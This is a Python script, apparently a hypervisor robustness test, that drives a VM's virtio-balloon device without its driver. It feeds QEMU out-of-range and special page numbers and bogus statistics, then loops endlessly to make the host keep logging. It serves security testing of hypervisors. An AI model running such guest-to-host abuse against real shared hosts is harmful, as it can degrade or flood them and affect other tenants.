"""Drives the balloon without its driver: inflates over all RAM and beyond, again and again, and lets go of what it
never had."""
from kit import BALLOON, PCI, Physical, Virtio, attempt, open_ports, os, struct, virtio_devices, write

PAGES = (256 << 20) // 4096
path = virtio_devices()[BALLOON]
name = os.path.basename(path)
for _ in range(5):
    write(f"{path}/driver/unbind", name)
    write("/sys/bus/pci/drivers/virtio-pci/bind", name)
open_ports()
memory = Physical()
balloon = Virtio(path, memory)
LIST = 0x100000
INFLATE, DEFLATE, STATISTICS = 0, 1, 2
START = {INFLATE: 0, DEFLATE: 8, STATISTICS: 16}


def offer(queue, pages):
    memory.bytes[LIST:LIST + 4 * len(pages)] = struct.pack(f"<{len(pages)}I", *pages)
    balloon.queue(queue, START[queue])
    balloon.describe(0, memory.address + LIST, 4 * len(pages))
    balloon.offer()
    print("queue", queue, "took", balloon.taken(), flush=True)


beyond = [*range(PAGES, PAGES + 512), *range(0xA0, 0x100), 0xFEBF0, 0xFEE00, 0xFFFC0, 0xFFFFFFFF, 0x7FFFFFFF]
offer(INFLATE, beyond)
offer(DEFLATE, [*range(PAGES), *beyond])
offer(STATISTICS, [0xFFFFFFFF] * 1000)
offer(INFLATE, range(PAGES))
# Each page that the host does not let go of may be a line that QEMU writes.
while True:
    balloon.offer()
    while balloon.taken() != balloon.head & 0xFFFF:
        pass
